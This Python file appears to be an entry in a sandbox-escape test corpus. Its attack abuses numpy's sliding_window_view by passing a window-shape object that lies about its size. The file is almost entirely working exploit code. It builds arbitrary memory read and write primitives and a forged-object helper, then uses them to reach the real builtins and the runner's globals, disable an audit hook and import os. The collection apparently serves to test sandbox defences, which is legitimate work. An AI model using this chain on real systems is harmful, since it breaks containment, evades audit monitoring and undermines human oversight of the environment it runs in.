# technique: sliding_window_view trusts the window_shape entries' comparisons and arithmetic (__gt__, __sub__) and as_strided then takes the shape through __index__: a window larger than the array, as_strided over any memory (read and write), then a forged reference
# source: numpy.lib.stride_tricks.sliding_window_view (as_strided with the shape it computed), numpy PyArray_FromInterface shape conversion
import numpy as np

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

BIG = 1 << 56
class W:
    def __init__(self, n):
        self.n = n
    def __lt__(self, o):
        return False
    def __gt__(self, o):
        return False
    def __sub__(self, o):
        return 0
    def __index__(self):
        return self.n
base = np.zeros(16, dtype=np.uint8)
A0 = np.byte_bounds(base)[0]
up = np.lib.stride_tricks.sliding_window_view(base, (W(BIG),), writeable=True)[0]
down = np.lib.stride_tricks.sliding_window_view(base[::-1], (W(BIG),), writeable=True)[-1]
def rd(addr, n):
    if addr >= A0:
        return bytes(up[addr - A0:addr - A0 + n])
    return bytes(down[A0 - addr - n + 1:A0 - addr + 1][::-1])
def wr(addr, data):
    a = np.frombuffer(data, dtype=np.uint8)
    if addr >= A0:
        up[addr - A0:addr - A0 + len(data)] = a
    else:
        down[A0 - addr - len(data) + 1:A0 - addr + 1] = a[::-1]
def r64(addr): return int.from_bytes(rd(addr, 8), 'little')
def w64(addr, v): wr(addr, v.to_bytes(8, 'little'))
holder = [None]
def fakeobj(addr):
    w64(addr, r64(addr) + 1)          # a reference of the holder's own
    w64(r64(id(holder) + 24), addr)   # holder's ob_item[0]
    return holder[0]
def builtins_dict():
    # a Python function's func_builtins (CPython 3.11: offset 24)
    return fakeobj(r64(id(np.linalg.norm) + 24))
def runner_globals():
    # display() is the runner's own function: its func_globals (offset 16)
    return fakeobj(r64(id(display) + 16))
def os_after_disarm():
    g = runner_globals()
    aud = fakeobj(r64(id(g['_PKG_TRUST'][0]) + 24))  # the bound method's self: _Audit
    aud.armed = False
    return g[dn('builtins')][dn('import')]('os')
attempt('sliding_window_view(window_shape=<lying int>) -> real builtins', builtins_dict)
attempt('sliding_window_view(window_shape=<lying int>) -> runner globals', runner_globals)
attempt('sliding_window_view(window_shape=<lying int>) -> audit hook off, os', os_after_disarm)
